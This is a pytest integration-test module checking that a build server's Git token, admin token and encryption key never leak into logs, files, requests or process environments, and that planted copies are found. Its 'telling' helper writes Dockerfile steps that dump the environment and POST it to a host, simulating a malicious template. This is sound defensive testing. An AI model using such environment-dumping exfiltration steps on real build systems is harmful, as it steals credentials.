"""Secrets that can be recognized are used, and afterwards looked for everywhere they must not be.

One server with the Git host's token, the administrator's and a key: a build of it succeeds, one fails, hosts
redirect, refuse and repeat what they were told, builds are cancelled. Meanwhile every process is watched. Then all that
is left is searched. After that a secret is planted in every kind of place, and the same search has to find it.
"""

import asyncio
import base64
import os
import secrets
from asyncio.subprocess import PIPE
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import pytest_asyncio

from support.build_host import BuildHost, build_host
from support.engine import Engine, engine
from support.gate import Gate
from support.git_repository import Repository
from support.git_server import GitServer, git_server
from support.process_watch import ProcessWatch, Seen, watched
from support.processes import running
from support.secret_search import SecretSearch
from support.server import Json, ServerProcess, eventually, server_process
from support.templates import BASE_IMAGE, Files, calling_template, config

from .evidence import KINDS, Evidence
from .site import quick_agent

pytestmark = [pytest.mark.engine, pytest.mark.slow, pytest.mark.asyncio(loop_scope="module")]

# Signs that are written differently in URLs, in JSON and in base64.
GIT_TOKEN = f"canary/git+{secrets.token_hex(12)}=%2F~"
ADMIN_TOKEN = f"canary/admin+{secrets.token_hex(12)}=%2F~"
ENCRYPTION_KEY = base64.b64encode(secrets.token_bytes(32)).decode()
CREDENTIALS = "Basic " + base64.b64encode(f"oauth2:{GIT_TOKEN}".encode()).decode()


def searching() -> SecretSearch:
    every = {"MOLECULE_GITEA_TOKEN": GIT_TOKEN, "ADMIN_TOKEN": ADMIN_TOKEN, "SECRETS_ENCRYPTION_KEY": ENCRYPTION_KEY}
    return SecretSearch(every)


@dataclass(slots=True)
class Run:
    """What happened: the server, both hosts, the steps' own host, and what was seen and found."""

    server: ServerProcess
    git: GitServer
    elsewhere: GitServer
    steps: BuildHost
    engine: Engine
    ended: dict[str, Json] = field(default_factory=dict)
    seen: list[Seen] = field(default_factory=list)
    clean: SecretSearch = field(default_factory=searching)
    planted: SecretSearch = field(default_factory=searching)

    async def template(self, runtime: str, files: Files) -> Repository:
        """A runtime's template on the host that asks for the token."""
        repository = await self.git.create_template(runtime, {**files, "mark": secrets.token_hex(8)})
        repository.faults.require_token(GIT_TOKEN)
        return repository

    async def begin(self, runtime: str) -> str:
        """Begin a build and return its record's id."""
        begun = await self.server.call("POST", "/images/builds", {"runtime": runtime}, status=202)
        return str(begun["id"])

    async def until_ended(self, runtime: str, record: str) -> None:
        async def end() -> Json:
            form = await self.server.call("GET", f"/images/builds/{record}")
            return form if form["finished_at"] else None

        self.ended[runtime] = await eventually(end, f"the build of {runtime} ended", 60)

    async def build(self, runtime: str) -> None:
        await self.until_ended(runtime, await self.begin(runtime))

    async def refused(self, runtime: str) -> None:
        """A build that ends before it begins, with the look-up of its commit."""
        response = await self.server.client.post("/images/builds", json={"runtime": runtime})
        assert response.status_code >= 400, response.text
        self.ended[runtime] = {"state": "refused", "error": response.json()}

    async def cancelled(self, runtime: str, gate: Gate) -> None:
        """A build that is cancelled as soon as somebody waits at the gate."""
        record = await self.begin(runtime)
        await asyncio.wait_for(gate.arrived.wait(), 30)
        await self.server.call("DELETE", f"/images/builds/{record}")
        await self.until_ended(runtime, record)
        gate.release()


def telling(url: str) -> str:
    """Instructions that take the whole context along, and tell their environment: the image, the log and a host."""
    program = f"import urllib.request as u; u.urlopen('{url}', open('/environment', 'rb').read())"
    tell = f'cat /environment && python3 -c "{program}"'
    return f"COPY . /context\nRUN cat /proc/self/environ > /environment && env >> /environment && {tell}"


def told(url: str, then: str) -> Files:
    return {"Dockerfile": f"FROM {BASE_IMAGE}\n{telling(url)}\n{then}\n", "config.yaml": config("any")}


async def go_through_everything(run: Run) -> None:
    """Every way a build can end, with the token at work in each."""
    await run.template("langgraph", quick_agent(run=telling(f"{run.steps.url}/langgraph")))
    await run.template("hermes", told(f"{run.steps.url}/hermes", "RUN exit 23"))
    moved = await run.git.create("moved/autogen", told(f"{run.steps.url}/autogen", "RUN true"))
    moved.faults.require_token(GIT_TOKEN)
    (await run.template("autogen", {})).faults.redirect(moved.url)
    other = await run.elsewhere.create("o/other", told(f"{run.steps.url}/other", "RUN true"))
    (await run.template("codex", {})).faults.redirect(other.url)
    (await run.template("crewai", {})).faults.redirect(other.url, where="upload-pack", status=307)
    repeats = (await run.template("claude-code", {})).faults
    repeats.answer(200, error_packet(CREDENTIALS), "application/x-git-upload-pack-result", where="fetch")
    (await run.template("deepagents", {})).faults.require_token("another token")
    fetching = (await run.template("gemini-cli", {})).faults.hold("fetch")
    stepping = run.steps.hold("/cancelled")
    await run.template("cancelled", calling_template(f"{run.steps.url}/cancelled"))
    await run.elsewhere.create("o/openclaw", told(f"{run.steps.url}/openclaw", "RUN true"))

    workspace = await run.server.create("langgraph")
    for runtime in ("codex", "deepagents"):
        await run.refused(runtime)
    for runtime in ("hermes", "autogen", "crewai", "claude-code", "openclaw"):
        await run.build(runtime)
    await run.cancelled("gemini-cli", fetching)
    await run.cancelled("cancelled", stepping)
    await run.server.until(workspace, "online")
    # Who shows the wrong token in the wrong place is not told it back.
    for header in (f"Bearer {GIT_TOKEN}", CREDENTIALS):
        answer = await run.server.client.get("/workspaces", headers={"Authorization": header})
        assert answer.status_code == 401


def error_packet(text: str) -> bytes:
    """An answer in which a host says what went wrong, in Git's own form; git repeats it."""
    line = f"ERR you sent {text}\n".encode()
    return b"%04x%s" % (len(line) + 4, line)


async def search_everything(run: Run, evidence: Evidence) -> None:
    """Search all places but processes."""
    await run.server.call("GET", "/workspaces")
    await evidence.print_newest_log()
    await evidence.collect()
    evidence.look_at_requests(run.elsewhere.requests)
    for path, body in zip(run.steps.calls, run.steps.bodies, strict=True):
        evidence.search.look("build step", path, body)


async def plant_everywhere(run: Run) -> None:
    """A template that brings the token along, a workspace that is named after it, and what none of both reaches."""
    planted = told(f"{run.steps.url}/planted", f'RUN echo "{GIT_TOKEN}" && exit 23')
    await run.template("planted", {**planted, "file": GIT_TOKEN})
    await run.build("planted")
    url = f"{run.steps.url}/planted-image"
    labelled = f'ENV PLANTED="{GIT_TOKEN}"\nLABEL planted="{GIT_TOKEN}"\n{telling(url)}\nCMD ["sleep", "60"]'
    await run.template("planted-image", {**told(url, labelled), "file": GIT_TOKEN})
    workspace = await run.server.create("planted-image", GIT_TOKEN, role=GIT_TOKEN)
    await eventually(lambda: any(w == workspace for w in started(run.server)), "the planted container runs")
    with run.server.log.open("a") as log:
        log.write(f'{{"event":"planted {GIT_TOKEN}"}}\n')
    store = next(run.server.cache.glob("*/git-*/config"))
    store.write_text(f"{store.read_text()}[http]\n\textraHeader = Authorization: {CREDENTIALS}\n")
    headers = {"Authorization": CREDENTIALS}
    await run.server.client.get(f"{run.elsewhere.url}o/other/info/refs", headers=headers)


def started(server: ServerProcess) -> list[str]:
    return [str(line["workspace"]) for line in server.log_lines("workspace started")]


async def planted_process(evidence: Evidence) -> None:
    """A process of ours with the token in its arguments and its environment, seen as the server's are."""
    watch = ProcessWatch(os.getpid())
    environment = {"PATH": os.environ["PATH"], "PLANTED": CREDENTIALS}
    async with running("sh", "-c", "read line", GIT_TOKEN, env=environment, stdin=PIPE) as process:

        def seen() -> list[Seen]:
            watch.look()
            return [each for each in watch.seen if each.pid == process.pid]

        evidence.look_at_processes(await eventually(seen, "the planted process is seen"))


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def run(engine_url: str, workspace_network: None, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Run]:
    directory: Path = tmp_path_factory.mktemp("canary")
    for folder in ("elsewhere", "server", "server/home", "server/home/tmp"):
        (directory / folder).mkdir()
    async with (
        git_server(directory) as git,
        git_server(directory / "elsewhere") as elsewhere,
        build_host(engine_url) as steps,
        engine(engine_url) as api,
    ):
        environment = {
            "MOLECULE_GITEA_TOKEN": GIT_TOKEN,
            "ADMIN_TOKEN": ADMIN_TOKEN,
            "SECRETS_ENCRYPTION_KEY": ENCRYPTION_KEY,
            "MOLECULE_LOCAL_TEMPLATE_REPO_PREFIX": git.repo_prefix,
            "MOLECULE_TEMPLATE_REPO_OPENCLAW": f"{elsewhere.url}o/openclaw",
            "MOLECULE_EXTRA_RUNTIMES": "cancelled,planted,planted-image",
            "MOLECULE_LOG_FORMAT": "json",
            "MOLECULE_LOG_LEVEL": "debug",
            "TMPDIR": str(directory / "server" / "home" / "tmp"),
        }
        async with server_process(directory / "server", engine_url, **environment) as server:
            server.client.headers["Authorization"] = f"Bearer {ADMIN_TOKEN}"
            run = Run(server, git, elsewhere, steps, api)
            await observed(run)
            yield run


async def observed(run: Run) -> None:
    """Go through everything, search, plant, search again."""
    evidence = Evidence(run.server, run.engine, run.clean)
    evidence.listen()
    with watched(run.server.pid) as watch:
        await go_through_everything(run)
        await evidence.ask_everything()
        await evidence.run_commands()
        await search_everything(run, evidence)
    run.seen = watch.seen
    evidence.look_at_processes(run.seen, may_know=fetches_from(run, run.git))

    evidence.search = run.planted
    await plant_everywhere(run)
    await search_everything(run, evidence)
    await planted_process(evidence)


def fetches_from(run: Run, host: GitServer) -> set[int]:
    """The process groups of the fetches from a host: git, and what it starts for its own work."""
    return {
        each.group
        for each in run.seen
        if "fetch" in each.argv and any(argument.startswith(host.url) for argument in each.argv)
    }


@pytest.mark.parametrize("kind", KINDS)
async def test_no_secret_is_in_any(run: Run, kind: str) -> None:
    """And the same search finds a planted one there."""
    assert run.clean.of(kind) == []
    assert run.clean.searched[kind] > 0
    assert {hit.secret for hit in run.planted.of(kind)} == {"MOLECULE_GITEA_TOKEN"}


async def test_every_kind_of_place_is_known(run: Run) -> None:
    assert set(run.clean.searched) == set(run.planted.searched) == set(KINDS)


async def test_everything_ended_as_it_was_meant_to(run: Run) -> None:
    codes = {name: (each["state"], each["error"] and each["error"]["code"]) for name, each in run.ended.items()}
    assert codes == {
        "hermes": ("failed", "build_failed"),
        "autogen": ("succeeded", None),
        "codex": ("refused", "template_repo_missing"),
        "crewai": ("failed", "git_unreachable"),
        "claude-code": ("failed", "git_unreachable"),
        "deepagents": ("refused", "git_denied"),
        "gemini-cli": ("cancelled", "build_cancelled"),
        "cancelled": ("cancelled", "build_cancelled"),
        "openclaw": ("succeeded", None),
        "planted": ("failed", "build_failed"),
    }


async def test_the_host_was_shown_the_token_with_every_request_and_accepted_it(run: Run) -> None:
    asked = [request for request in run.git.requests if not request.repository.endswith("deepagents")]
    assert {request.headers.get("Authorization") for request in asked} == {CREDENTIALS}
    accepted = {request.repository.rpartition("-template-")[2] for request in asked if request.authorized}
    assert accepted >= {"langgraph", "hermes", "moved/autogen", "autogen", "crewai", "claude-code", "gemini-cli"}


async def test_another_origin_is_asked_and_shown_no_token(run: Run) -> None:
    """Neither as the operator's own repository nor behind a redirect, which nobody follows there."""
    asked = [each for each in run.elsewhere.requests if each.headers.get("Authorization") != CREDENTIALS]
    assert {request.repository for request in asked} == {"o/openclaw"}
    assert [each.path for each in run.elsewhere.requests if each not in asked] == ["/o/other/info/refs"]  # planted


async def test_the_processes_that_matter_were_seen(run: Run) -> None:
    git = {each.argv[each.argv.index("--quiet") - 1] for each in run.seen if "--quiet" in each.argv}
    programs = {Path(argument).name for each in run.seen for argument in each.argv[:5]}
    assert {"fetch"} <= git
    assert {"git", "git-remote-http", "docker"} <= programs
    builds = [each for each in run.seen if "build" in each.argv and any("--label=" in each for each in each.argv)]
    assert builds


async def test_a_fetch_is_told_the_token_in_one_variable_bound_to_its_host(run: Run) -> None:
    fetches = fetches_from(run, run.git)
    told_by = {
        (name, each.variables[name.replace("VALUE", "KEY")], value)
        for each in run.seen
        if each.group in fetches
        for name, value in each.variables.items()
        if searching().look("variable", name, value)
    }
    assert {(key, value) for _, key, value in told_by} == {
        (f"http.{run.git.url.removesuffix('/')}/.extraHeader", f"Authorization: {CREDENTIALS}")
    }


async def test_a_fetch_from_another_origin_is_not_told_the_token(run: Run) -> None:
    others = fetches_from(run, run.elsewhere)
    assert others
    assert not others & fetches_from(run, run.git)


async def test_nobody_else_may_look_into_what_the_server_keeps(run: Run) -> None:
    """Only files of a checkout have the modes that they have in the commit: in a folder that nobody else may enter."""
    kept = [path for place in (run.server.cache, run.server.data) for path in (place, *place.rglob("*"))]
    open_to_others = {path for path in kept if path.lstat().st_mode & 0o077}
    assert {path for path in open_to_others if "tree" not in path.relative_to(run.server.home).parts} == set()
    assert len(kept) > 50


async def test_what_a_host_repeated_is_masked_in_the_log(run: Run) -> None:
    said = {line["complaint"] for line in run.server.log_lines("git fetch failed") if "you sent" in line["complaint"]}
    assert said == {"fatal: remote error: you sent Basic b2F1dGgyOm***"}  # the base64 of "oauth2:" is no secret
